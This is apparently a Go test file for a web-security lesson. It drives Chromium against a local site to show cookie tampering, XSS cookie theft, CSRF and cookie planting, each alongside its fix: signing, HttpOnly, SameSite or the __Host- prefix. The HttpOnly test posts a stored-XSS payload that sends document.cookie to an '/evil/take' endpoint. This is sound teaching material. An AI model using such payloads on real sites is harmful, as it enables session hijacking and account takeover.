package httpdemo_test

import (
	"context"
	"encoding/json"
	"fmt"
	"net/url"
	"os"
	"os/exec"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/cdproto/runtime"
	"github.com/chromedp/chromedp"
)

// chromium is a real browser, which goes to a site by several of its names.
type chromium struct {
	t    *testing.T
	ctx  context.Context
	port string
}

func newChromium(t *testing.T, s served) chromium {
	t.Helper()
	program, err := exec.LookPath("chromium")
	if err != nil {
		t.Skip("needs chromium: a lesson is followed in a real browser (apt-get install chromium)")
	}
	profile, err := os.MkdirTemp("", "statelab-browser") // not t.TempDir: the browser may still write to it as it goes
	if err != nil {
		t.Fatal(err)
	}
	o := append(chromedp.DefaultExecAllocatorOptions[:], chromedp.ExecPath(program), chromedp.NoSandbox, chromedp.UserDataDir(profile),
		chromedp.WSURLReadTimeout(2*time.Minute), chromedp.Flag("disable-component-update", true), chromedp.Flag("no-proxy-server", true))
	ctx, end := context.WithTimeout(context.Background(), 4*time.Minute)
	ctx, stop := chromedp.NewExecAllocator(ctx, o...)
	ctx, closeTab := chromedp.NewContext(ctx, chromedp.WithErrorf(func(string, ...any) {})) // it complains of events that it does not know
	t.Cleanup(func() {
		_ = chromedp.Cancel(ctx)
		closeTab()
		stop()
		end()
		_ = os.RemoveAll(profile)
	})
	if err := chromedp.Run(ctx); err != nil { // the browser lives as long as this context
		t.Fatal(err)
	}
	u, err := url.Parse(s.URL)
	if err != nil {
		t.Fatal(err)
	}
	return chromium{t, ctx, u.Port()}
}

func (c chromium) do(actions ...chromedp.Action) {
	c.t.Helper()
	ctx, stop := context.WithTimeout(c.ctx, time.Minute)
	defer stop()
	if err := chromedp.Run(ctx, actions...); err != nil {
		c.t.Fatal(err)
	}
}

// open goes to a page by one of the site's names.
func (c chromium) open(host, path string) {
	c.t.Helper()
	c.do(chromedp.Navigate("http://" + host + ":" + c.port + path))
}

// loaded is done when a page of that path has been loaded, or time is up.
func (c chromium) loaded(path string) <-chan struct{} {
	there := false
	ctx, stop := context.WithTimeout(c.ctx, time.Minute)
	chromedp.ListenTarget(ctx, func(event any) {
		switch e := event.(type) {
		case *page.EventFrameNavigated:
			there = strings.HasSuffix(e.Frame.URL, path)
		case *page.EventLoadEventFired:
			if there {
				stop()
			}
		}
	})
	return ctx.Done()
}

// evaluate runs a script in the page, and waits for what it promises.
func evaluate[T any](c chromium, script string) (v T) {
	c.t.Helper()
	c.do(chromedp.Evaluate(script, &v, func(p *runtime.EvaluateParams) *runtime.EvaluateParams { return p.WithAwaitPromise(true) }))
	return v
}

// send lets the page's own script send a form, and returns the status.
func (c chromium) send(path, form string) int {
	c.t.Helper()
	body, err := json.Marshal(form)
	if err != nil {
		c.t.Fatal(err)
	}
	return evaluate[int](c, fmt.Sprintf(`fetch(%q, {method: "POST", body: new URLSearchParams(%s), headers: {Accept: "*/*"}}).then(r => r.status)`, path, body))
}

// get returns what the page's own script is answered with.
func (c chromium) get(path string) string {
	c.t.Helper()
	return evaluate[string](c, fmt.Sprintf(`fetch(%q, {headers: {Accept: "*/*"}}).then(r => r.text())`, path))
}

// login begins anew.
func (c chromium) login(host, form string) {
	c.t.Helper()
	c.open(host, "/cookie/")
	evaluate[bool](c, `document.cookie.split("; ").forEach(p => document.cookie = p.split("=")[0] + "=; Max-Age=0; path=/cookie"), true`)
	if status := c.send("/cookie/login", form); status != 204 {
		c.t.Fatalf("login %s: %d", form, status)
	}
}

// TestCookieInChromium: the attacks and their cures in a real browser, which has
// the rules of the lesson's own.
func TestCookieInChromium(t *testing.T) {
	t.Parallel()
	s := lessonSite(t, true, "cookie")
	c := newChromium(t, s)

	t.Run("tampering", func(t *testing.T) {
		c.t = t
		c.open("127.0.0.1", "/cookie/")
		for _, way := range []string{"plain", "signed"} {
			c.send("/cookie/"+way, "")
		}
		evaluate[bool](c, `document.cookie = "plain=user=user1&role=admin; path=/cookie", document.cookie = "signed=AAAA; path=/cookie", true`)
		if got := c.get("/cookie/plain"); !strings.Contains(got, `"role":"admin"`) {
			t.Errorf("plain: %s", got)
		}
		if got := c.get("/cookie/signed"); !strings.Contains(got, `"status":401`) {
			t.Errorf("signed: %s", got)
		}
	})
	t.Run("limit", func(t *testing.T) {
		c.t = t
		c.open("127.0.0.1", "/cookie/")
		c.send("/cookie/large", "bytes=4096")
		c.send("/cookie/large", "bytes=4097")
		if got := c.get("/cookie/large"); !strings.Contains(got, `"bytes":4096`) {
			t.Errorf("came back: %s", got)
		}
	})
	t.Run("HttpOnly", func(t *testing.T) {
		c.t = t
		script := fmt.Sprintf(`<script>new Image().src="http://localhost:%s/evil/take?c="+encodeURIComponent(document.cookie)</script>`, c.port)
		c.open("127.0.0.1", "/cookie/")
		c.send("/cookie/guestbook", url.Values{"comment": {script}}.Encode())
		for _, x := range []struct {
			attributes string
			taken      bool
		}{{"", true}, {"&httponly=on", false}} {
			before := s.taken()
			c.login("127.0.0.1", "user=user1"+x.attributes)
			if got := evaluate[string](c, "document.cookie"); strings.Contains(got, "login=") != x.taken {
				t.Errorf("%q: document.cookie is %q", x.attributes, got)
			}
			c.open("127.0.0.1", "/cookie/attackable/guestbook")
			c.do(chromedp.Poll(`performance.getEntriesByType("resource").some(e => e.name.includes("/evil/take"))`, nil))
			got := s.taken()
			if len(got) != len(before)+1 || strings.Contains(got[len(got)-1], "login=") != x.taken {
				t.Errorf("%q: taken %q", x.attributes, got)
			}
		}
		c.open("127.0.0.1", "/cookie/guestbook") // escaped
		if got := s.taken(); len(got) != 2 {
			t.Errorf("the escaped page let a script run: %q", got)
		}
	})
	t.Run("SameSite", func(t *testing.T) {
		c.t = t
		for attribute, want := range map[string]string{
			"": `"from":"user1"`, "&samesite=none&secure=on": `"from":"user1"`, "&samesite=lax": "401", "&samesite=strict": "401",
		} {
			c.login("127.0.0.1", "user=user1&httponly=on"+attribute)
			arrived := c.loaded("/cookie/attackable/gift")
			c.open("localhost", "/evil/") // its form sends itself
			<-arrived
			if got := evaluate[string](c, "document.documentElement.textContent"); !strings.Contains(got, want) {
				t.Errorf("%q: %s, want %s", attribute, got, want)
			}
		}
	})
	t.Run("Host prefix", func(t *testing.T) {
		c.t = t
		plant := func(name, path, value string) {
			c.open("evil.shop.localhost", "/cookie/")
			c.get("/evil/plant?" + url.Values{"name": {name}, "value": {value}, "domain": {"shop.localhost"}, "path": {path}}.Encode())
			c.open("shop.localhost", "/cookie/")
		}
		c.login("shop.localhost", "user=mallory")
		own := strings.TrimPrefix(evaluate[string](c, "document.cookie"), "login=")
		c.login("shop.localhost", "user=user1&httponly=on")
		plant("login", "/cookie/account", own)
		if got := c.get("/cookie/account"); !strings.Contains(got, "mallory") {
			t.Errorf("planted: %s", got)
		}
		c.login("shop.localhost", "user=user1&httponly=on&host=on")
		plant("__Host-login", "/cookie/host-account", own)
		if got := c.get("/cookie/host-account"); !strings.Contains(got, "user1") {
			t.Errorf("with __Host-: %s", got)
		}
	})
}
